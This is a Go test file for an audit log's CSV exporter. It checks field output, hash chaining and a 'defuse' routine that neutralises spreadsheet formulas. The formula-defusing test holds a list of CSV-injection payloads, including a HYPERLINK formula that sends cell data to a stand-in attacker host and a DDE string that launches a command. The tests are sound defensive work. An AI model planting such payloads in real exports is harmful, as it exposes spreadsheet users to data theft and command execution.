package audit

import (
	"bytes"
	"encoding/csv"
	"encoding/hex"
	"slices"
	"strings"
	"testing"
	"time"
)

// csvRows exports events and parses the output back with encoding/csv.
func csvRows(t *testing.T, events ...Event) (header []string, rows []map[string]string, recs []Record) {
	t.Helper()
	times, entries := make([]time.Time, len(events)), make([][]byte, len(events))
	for i, e := range events {
		entries[i], _ = e.Canonical()
		times[i] = time.Date(2026, 11, 24, 9, 0, 0, 123456000, time.UTC).Add(time.Duration(i) * time.Second)
	}
	recs = Chain(0, Genesis, times, entries)
	var buf bytes.Buffer
	w, err := NewCSVWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	all, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("output does not parse as CSV: %v\n%s", err, buf.String())
	}
	header = all[0]
	for _, line := range all[1:] {
		row := map[string]string{}
		for i, col := range header {
			row[col] = line[i]
		}
		rows = append(rows, row)
	}
	return header, rows, recs
}

func csvEvent() Event {
	return Event{
		Actor:     Actor{Type: ActorUser, ID: "u_42", Roles: []string{"operator", "auditor"}},
		Action:    PaymentRefunded,
		Outcome:   Success,
		Origin:    Origin{IP: "203.0.113.7", UserAgent: "Mozilla/5.0 (X11)"},
		Target:    Target{Type: "payment", ID: "pay_1"},
		RequestID: "req_9",
		Detail:    map[string]string{"currency": "USD", "amount": "1200", "note": "a, \"quoted\"\nline"},
	}
}

func TestCSVWriter_NormalValuesUntouched(t *testing.T) {
	header, rows, recs := csvRows(t, csvEvent())
	if !slices.Equal(header, csvHeader) {
		t.Fatalf("header = %v", header)
	}
	want := map[string]string{
		"seq": "1", "time": "2026-11-24T09:00:00.123456Z", "actor_type": "user", "actor_id": "u_42",
		"actor_roles": "operator auditor", "action": "payment.refunded", "outcome": "success",
		"ip": "203.0.113.7", "user_agent": "Mozilla/5.0 (X11)", "target_type": "payment", "target_id": "pay_1",
		"request_id": "req_9", "detail": "amount=1200; currency=USD; note=a, \"quoted\"\nline",
		"hash": hex.EncodeToString(recs[0].Hash[:]), "prev_hash": strings.Repeat("0", 64),
	}
	for col, v := range want {
		if rows[0][col] != v {
			t.Errorf("%s = %q, want %q", col, rows[0][col], v)
		}
	}
}

// Every column a user can influence comes out defused, whatever the payload.
func TestCSVWriter_DefusesFormulas(t *testing.T) {
	payloads := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1", "-2+3", "@SUM(A1:A9)",
		"\t=1", "\r=1", "＝1+1", "=cmd|' /C calc'!A0"}
	fields := []struct {
		column string
		set    func(e *Event, v string)
		cell   func(v string) string // the expected cell
	}{
		{"actor_id", func(e *Event, v string) { e.Actor.ID = v }, func(v string) string { return "'" + v }},
		{"target_id", func(e *Event, v string) { e.Target.ID = v }, func(v string) string { return "'" + v }},
		{"target_type", func(e *Event, v string) { e.Target.Type = v }, func(v string) string { return "'" + v }},
		{"user_agent", func(e *Event, v string) { e.Origin.UserAgent = v }, func(v string) string { return "'" + v }},
		{"request_id", func(e *Event, v string) { e.RequestID = v }, func(v string) string { return "'" + v }},
		{"actor_roles", func(e *Event, v string) { e.Actor.Roles = []string{v} }, func(v string) string { return "'" + v }},
		{"detail", func(e *Event, v string) { e.Detail = map[string]string{"note": v} },
			func(v string) string { return "note='" + v }},
		{"detail", func(e *Event, v string) { e.Detail = map[string]string{v: "x"} }, // a hostile key starts the cell
			func(v string) string { return "'" + v + "=x" }},
	}
	for _, f := range fields {
		for _, p := range payloads {
			t.Run(f.column+"/"+p, func(t *testing.T) {
				e := csvEvent()
				f.set(&e, p)
				_, rows, _ := csvRows(t, e)
				if got, want := rows[0][f.column], f.cell(p); got != want {
					t.Fatalf("%s = %q, want %q", f.column, got, want)
				}
			})
		}
	}
}

func TestDefuse(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "plain": "plain", "a=b": "a=b", "1-2": "1-2", " =1": " =1", "'=1": "'=1",
		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx", "\x00x": "'\x00x",
		"＋1": "'＋1", "－1": "'－1", "＠a": "'＠a",
	} {
		if got := defuse(in); got != want {
			t.Errorf("defuse(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSVWriter_RefusesMangledEntry(t *testing.T) {
	w, err := NewCSVWriter(&bytes.Buffer{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(Record{Seq: 7, Entry: []byte("not json")}); err == nil || !strings.Contains(err.Error(), "7") {
		t.Fatalf("Write = %v, want an error naming entry 7", err)
	}
}
